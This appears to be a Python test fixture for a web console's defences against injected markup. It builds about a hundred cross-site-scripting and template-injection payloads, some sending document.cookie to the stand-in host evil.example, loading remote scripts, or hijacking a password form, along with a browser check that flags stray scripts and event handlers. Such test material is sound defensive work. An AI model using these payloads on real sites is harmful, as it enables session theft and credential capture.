"""Texts of those who mean harm, and what to look for on a page that shows them."""

ATTACKS = [
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    '"><svg onload=alert(1)>',
    "'-alert(1)-'",
    "</textarea></title></style><script>alert(1)</script>",
    '<a href="javascript:alert(1)">read more</a>',
    "{{ 7 * 7 }} {% for x in y %} ${7*7}",
    "<iframe srcdoc='<script>parent.alert(1)</script>'></iframe>",
    "<base href=//evil.example><form action=//evil.example><input name=password>",
    "<!--><script>alert(1)</script>--> &lt;b&gt; &amp;amp;",
    "<style>@import '//evil.example/x.css';</style><meta http-equiv=refresh content='0;url=//evil.example'>",
    "<math><mtext></p><mglyph><style><img src onerror=alert(1)>",
]
_PAYLOADS = (
    "alert(1)",
    "confirm`1`",
    "prompt(document.cookie)",
    "fetch('//evil.example/'+document.cookie)",
    "location='//evil.example'",
    "document.body.innerHTML=1",
    "import('//evil.example/x.js')",
    "top['al'+'ert'](1)",
    "eval('\\x61lert(1)')",
    "new Image().src='//evil.example'",
)
_WAYS = (
    "<script>{}</script>",
    "</template></textarea></title><svg/onload={}>",
    "\"'><img src=x onerror={}>",
    "<details open ontoggle={}><summary>x</summary></details>",
    "<iframe srcdoc='<script>{}</script>'></iframe>",
    "<a href=javascript:{}>x</a>",
    "{{{{ {} }}}} ${{{}}} {{% {} %}}",
    '<math><mi//xlink:href="data:x,<script>{}</script>">',
    "</span></mark></div></dialog><input autofocus onfocus={}>",
    "<x style=animation-name:rise onanimationstart={}>\u202e\u0000"[:-1],
)
HUNDRED = [
    way.format(*[payload] * way.count("{}")) if way.count("{}") == 1 else way.replace("{}", payload)
    for way in _WAYS
    for payload in _PAYLOADS
]
# What could run or load something. No page of the console has any of it but the logo, so the rest came with a text.
FOREIGN_MARKUP = """() => [...document.querySelectorAll('*')]
    .filter(node => !node.matches('.top > .brand > img[src="/console/static/icon.svg"]'))
    .filter(node => !node.matches('head > script[type=module][src^="/console/static/"]'))
    .filter(node => node.matches('script, style, iframe, object, embed, img, base, math, [style], [src], [srcdoc]')
        || [...node.attributes].some(given => given.name.startsWith('on') || /^javascript:/i.test(given.value.trim())))
    .map(node => node.outerHTML)"""
